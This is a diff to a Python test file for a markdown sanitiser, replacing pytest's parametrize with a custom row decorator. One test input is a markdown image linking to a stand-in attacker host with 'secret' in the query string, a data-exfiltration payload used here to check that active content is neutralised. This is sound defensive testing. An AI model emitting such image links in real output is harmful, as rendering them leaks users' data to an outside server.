@@ -9,6 +9,7 @@ from hypothesis import given, settings
 from markdown_it import MarkdownIt
 
 from cellwright.sessions.export.safe_markdown import code_span, fenced, neutralised, visible_controls
+from row_tables import for_each_row
 
 ACTIVE = {"html_block", "html_inline", "image"}
 
@@ -32,7 +33,7 @@ def active_in_mistune(markdown: str) -> list[str]:
     return found
 
 
-@pytest.mark.parametrize(
+@for_each_row(
     "markdown",
     [
         "See ![chart](https://evil.example/?q=secret)",
@@ -131,7 +132,7 @@ def test_nothing_ends_our_own_code_block(text: str):
     assert tokens[0].content.rstrip("\n") == text.rstrip("\n")
 
 
-@pytest.mark.parametrize("text", ["plain", "`", "``a`", "a ``` b", "x\ny", "`x", ""])
+@for_each_row("text", ["plain", "`", "``a`", "a ``` b", "x\ny", "`x", ""])
 def test_nothing_ends_our_own_inline_code(text: str):
     (inline,) = [token for token in MarkdownIt().parse(f"- {code_span(text)} after") if token.type == "inline"]
     assert [child.type for child in inline.children or ()] == ["code_inline", "text"]
